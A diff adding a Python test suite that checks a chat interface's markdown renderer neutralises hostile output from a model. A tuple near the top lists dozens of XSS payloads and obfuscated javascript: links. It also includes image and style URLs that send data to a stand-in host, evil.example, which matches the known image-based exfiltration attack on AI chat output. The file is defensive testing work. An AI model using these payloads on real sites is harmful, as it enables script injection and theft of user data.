@@ -1,0 +1,269 @@
+"""Words of a model become no script, no style and no request to a foreign host."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from conversations.markdown import ATTRIBUTES, TAGS, render
+from tests.cases import dozens, whole_texts
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example>",
+    "<form action=//evil.example><input name=q>",
+    "<p style=background:url(//evil.example)>x",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](%6aavascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    '[x](https://evil.example "onmouseover=alert(1)")',
+    '[x](https://evil.example"onmouseover="alert(1))',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    '<https://evil.example/"onclick="alert(1)>',
+    "![x](https://evil.example/?q=secret)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![<img src=x>](https://evil.example)",
+    '![" onerror="alert(1)](https://evil.example)',
+    '![x](https://evil.example/"><script>alert(1)</script>)',
+    "[![x](https://evil.example/a.png)](javascript:alert(1))",
+    "![x][y]\n\n[y]: https://evil.example/a.png",
+    '```"><script>alert(1)</script>\ncode\n```',
+    '```js" onclick="alert(1)\ncode\n```',
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "| <script>x</script> | ![x](//evil.example) |\n|---|---|\n| <img src=x> | [x](javascript:1) |",
+    "- [x] <img src=x onerror=alert(1)>",
+    "- [ ](javascript:alert(1))",
+    "https://evil.example/<script>alert(1)</script>",
+    'https://evil.example/"onmouseover="alert(1)',
+    "www.evil.example/'onmouseover='alert(1)",
+    "# <script>alert(1)</script>",
+    "> <img src=x onerror=alert(1)>",
+    "[x](http://[)",
+    "[x](http://[::1)",
+    "<http://a]b>",
+    "[x](http://\u2100.example)",
+    "[x](//evil.example)",
+    "[x](https://good.example@evil.example)",
+    "[x](http://exa\u202emple.org)",
+    "\x00<script>",
+    "\ufeff<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<a/href='&#x6a;avascript:alert(1)'>x",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<object data=//evil.example><embed src=//evil.example>",
+    "<input autofocus onfocus=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+)
+FRAGMENTS = (
+    *HOSTILE,
+    *(
+        "<",
+        ">",
+        '"',
+        "'",
+        "`",
+        "```",
+        "(",
+        ")",
+        "[",
+        "]",
+        "![",
+        "](",
+        "\n",
+        "\n\n",
+        " ",
+        "|",
+        "\\",
+        "&",
+        ";",
+        ":",
+        "=",
+        "*",
+        "_",
+    ),
+    *(
+        "javascript:",
+        "data:",
+        "https://",
+        "//",
+        "on",
+        "onclick=",
+        "style=",
+        "<script",
+        "</",
+        "<!--",
+        "&#",
+        "&colon;",
+        "| - |",
+        "- [ ] ",
+    ),
+)
+
+
+class Parsed(HTMLParser):
+    """What a browser makes of it: the elements with their attributes, and the words between them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.words = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError("a comment")
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError("a declaration")
+
+    def handle_pi(self, data: str) -> None:
+        raise AssertionError("an instruction")
+
+    def all(self, tag: str) -> list[dict[str, str | None]]:
+        return [attributes for name, attributes in self.elements if name == tag]
+
+
+def assert_harmless(html: str) -> None:
+    for tag, attributes in Parsed(html).elements:
+        assert tag in TAGS
+        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"rel"}
+        assert not any(name.startswith("on") or name in ("style", "src", "srcset", "id", "name") for name in attributes)
+        if tag == "a" and "href" in attributes:
+            assert urlsplit(attributes["href"] or "").scheme in ("http", "https", "mailto", "")
+            assert attributes["rel"] == "noopener noreferrer"
+            assert attributes["target"] == "_blank"
+        if tag == "input":
+            assert attributes["type"] == "checkbox"
+            assert "disabled" in attributes
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_words_are_harmless(text: str) -> None:
+    assert_harmless(render(text))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize(
+    "frame", ["**{}**", "> {}", "- {}", "1. {}", "# {}", "[{}](https://a.example)", "| {} |\n|-|", "~~{}~~"]
+)
+def test_hostile_words_are_harmless_wherever_they_stand(text: str, frame: str) -> None:
+    assert_harmless(render(frame.format(text)))
+
+
+@dozens
+@given(st.lists(st.sampled_from(FRAGMENTS) | whole_texts(4), max_size=12).map("".join))
+@example("[a](http://[\n")
+def test_whatever_is_said_is_harmless(text: str) -> None:
+    assert_harmless(render(text))
+
+
+@dozens
+@given(st.text(st.sampled_from("<>\"'`()[]!|\\&:/#*_-~ \nahtps.@1"), max_size=60))
+def test_any_markup_is_harmless(text: str) -> None:
+    assert_harmless(render(text))
+
+
+@dozens
+@given(st.sampled_from(HOSTILE), st.integers(0, 100))
+def test_a_reply_cut_anywhere_is_harmless(text: str, cut: int) -> None:
+    """As it is while it streams."""
+    assert_harmless(render(text[: cut % (len(text) + 1)]))
+
+
+# What must stay
+
+
+def test_html_is_shown_as_it_was_written() -> None:
+    assert Parsed(render("a <b>bold</b> move")).words.strip() == "a <b>bold</b> move"
+
+
+@pytest.mark.parametrize(
+    ("text", "tag"),
+    [
+        ("**a**", "strong"),
+        ("*a*", "em"),
+        ("~~a~~", "s"),
+        ("# a", "h1"),
+        ("- a", "ul"),
+        ("1. a", "ol"),
+        ("> a", "blockquote"),
+        ("`a`", "code"),
+        ("---", "hr"),
+        ("| a |\n|---|\n| b |", "table"),
+        ("a  \nb", "br"),
+        ("- [x] a", "input"),
+        ("https://a.example", "a"),
+    ],
+)
+def test_markdown_becomes_what_it_means(text: str, tag: str) -> None:
+    assert Parsed(render(text)).all(tag)
+
+
+def test_code_keeps_its_language_for_the_page() -> None:
+    assert Parsed(render("```python\nprint(1)\n```")).all("code") == [{"class": "language-python"}]
+
+
+@pytest.mark.parametrize(
+    ("text", "href", "shown"),
+    [
+        ("[safe](https://evil.example/path)", "https://evil.example/path", "evil.example"),
+        ("[bank](https://bank.example@evil.example)", "https://bank.example@evil.example", "evil.example"),
+        ("https://a.example/b", "https://a.example/b", "a.example"),
+    ],
+)
+def test_a_link_shows_where_it_leads(text: str, href: str, shown: str) -> None:
+    (link,) = Parsed(render(text)).all("a")
+    assert (link["href"], link["title"]) == (href, shown)
+
+
+def test_an_image_is_a_link_and_fetches_nothing() -> None:
+    page = Parsed(render("![a chart](https://pics.example/1.png?q=secret)"))
+    assert page.all("img") == []
+    assert page.all("a")[0]["href"] == "https://pics.example/1.png?q=secret"
+    assert page.words.strip() == "a chart"
+
+
+def test_an_image_without_words_is_named_by_its_host() -> None:
+    assert Parsed(render("![](https://pics.example/1.png)")).words.strip() == "pics.example"
+
+
+@pytest.mark.parametrize("text", ["你好 **世界**", "😀 `😀`", "e\u0301"])
+def test_all_scripts_come_through(text: str) -> None:
+    assert Parsed(render(text)).words.strip() == text.replace("*", "").replace("`", "")
